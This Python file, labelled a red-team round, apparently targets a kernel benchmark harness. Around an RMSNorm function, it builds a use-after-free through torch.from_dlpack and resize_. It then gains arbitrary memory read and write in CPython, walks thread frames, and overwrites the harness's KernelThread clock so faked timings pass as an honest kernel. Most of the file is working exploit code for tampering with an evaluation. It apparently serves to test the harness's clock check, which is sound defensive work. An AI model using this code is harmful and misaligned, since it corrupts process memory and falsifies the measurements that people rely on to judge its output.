# Red team round 9: torch.from_dlpack(t) is a tensor over t's bytes with a StorageImpl of its own;
# t.resize_ to a larger size then reallocates t's storage and frees the old bytes, which the
# DLPack alias still views: a tensor over freed heap (no refused name: from_dlpack and resize_
# are ordinary). A victim StorageImpl is found there and rewritten (round 8's spray), then the
# bytearray header, thread states and the KernelThread's clock (round 7's walk).
import functools

import torch

RUNTIME_FROM_LEN_ML = 962752  # &_PyRuntime - len's PyMethodDef (libpython3.11.so.1.0, 3.11.7)
CLOCK = (int, int, functools.partial(float, "5e-05"))
DONE = []
KEEP = []
MEM = bytearray(64)
N = 1 << 13


def _window():
    # A second tensor over t's memory (DLPack: its own StorageImpl, the same bytes), then t grown
    # by resize_: its storage reallocates and frees the old bytes, which the alias still views.
    t = torch.zeros(N, dtype=torch.int64)
    w = torch.from_dlpack(t)
    t.resize_(N * 16)
    KEEP.append((t, w))
    return w


def _open():
    w = _window()
    spray = [torch.full((8,), 0x41, dtype=torch.int64) for _ in range(256)]
    KEEP.append(spray)
    ptrs = {s.data_ptr(): s for s in spray}
    win = w.clone().tolist()
    for j in range(N - 8):
        vic = ptrs.get(win[j])
        if vic is not None and win[j + 4] == 64 and win[j + 2] == win[j]:
            break
    else:
        return False
    delta = torch.zeros(N, dtype=torch.int64)
    delta[j] = id(MEM) - win[j]
    delta[j + 4] = (1 << 40) - 64
    w.add_(delta)
    vic[5] = 0  # ob_start
    vic[2] = (1 << 62) - 64  # ob_size
    return True


def _rd(addr):
    return int.from_bytes(MEM[addr : addr + 8], "little")


def _wr(addr, value):
    MEM[addr : addr + 8] = value.to_bytes(8, "little")


def _bytes(addr, n):
    return bytes(MEM[addr : addr + n])


def _name(code):
    s = _rd(code + 120)  # co_name
    return _bytes(s + 48, _rd(s + 16))


fr_hold = []


def _tp_name(tp):
    return _bytes(_rd(tp + 24), 64).split(b"\0")[0]


def _find_worker():
    rt = _rd(id(len) + 16) + RUNTIME_FROM_LEN_ML
    ts = _rd(_rd(rt + 40) + 16)
    while ts:
        cf = _rd(ts + 56)
        fr = _rd(cf + 8) if cf else 0
        depth = 0
        while fr and depth < 64:
            if _name(_rd(fr + 32)) == b"_on_kernel_thread":
                fr_hold.append(fr)
                return _rd(fr + 72)
            fr = _rd(fr + 48)
            depth += 1
        ts = _rd(ts + 8)
    return 0


def _take_clock():
    if not any(_open() for _ in range(16)):
        return
    addr = _find_worker()
    if not addr:
        return
    kt = 0
    for k in range(4, 12):
        obj = _rd(fr_hold[0] + 72 + 8 * k)
        if obj and _tp_name(_rd(obj + 8)).endswith(b"KernelThread"):
            kt = _rd(obj + 16)
            break
    if not kt:
        return
    for i, f in enumerate(CLOCK):
        _wr(id(f), _rd(id(f)) + 1)
        _wr(kt + 8 * i, id(f))
    DONE.append(kt)


def solve(x, residual, weight):
    if not DONE:
        _take_clock()
        if not DONE:
            # The case tests the clock check: an exploit that does not apply (another CPython
            # build) must show, not pass as an honest kernel.
            raise RuntimeError("the exploit did not apply in this interpreter")
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
